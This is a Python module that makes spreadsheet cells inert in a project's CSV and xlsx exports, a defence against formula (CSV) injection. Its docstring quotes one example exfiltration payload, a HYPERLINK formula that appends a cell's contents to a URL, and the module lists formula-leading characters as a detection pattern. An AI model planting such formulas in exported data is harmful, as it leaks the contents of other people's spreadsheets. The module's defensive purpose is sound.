"""Cells that a spreadsheet would run as a formula, made inert wherever data leaves duban.

Why: a progress item typed as ``=HYPERLINK("http://…?"&B5,"详见附件")`` — or a unit
name imported from a hostile file — becomes a live formula when an office opens
the export in Excel or WPS, and can send the sheet's contents elsewhere. Spreadsheets
treat a cell as a formula when its text starts with ``=``, ``+``, ``-`` or ``@``
(and strip a leading tab or carriage return first), so those are the characters
checked (OWASP "CSV injection").

* CSV: the field gets a leading ``'`` (``csv_field``), which every spreadsheet shows
  as the start of text and a reader of the raw file can strip.
* xlsx: the cell is written as a string cell (``xlsx_text``), never as a formula;
  its text stays exactly as typed.

Every exporter (tables, CSV, the public site's open data) calls these two functions.
"""
from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value: object) -> bool:
    """True when ``value`` is text a spreadsheet would read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_field(value: object) -> object:
    """A CSV field that opens as text: ``'`` before a formula-like string, anything else unchanged."""
    return "'" + value if formula_like(value) else value


def csv_row(values) -> list:
    return [csv_field(v) for v in values]


def xlsx_text(cell, value: str | None) -> None:
    """Put ``value`` into an openpyxl cell as text even when it starts like a formula."""
    cell.value = value
    if formula_like(value):
        cell.data_type = "s"  # openpyxl marks text starting with "=" as a formula ("f"); store it as a string
        cell.quotePrefix = True  # and Excel keeps it text when someone edits the cell
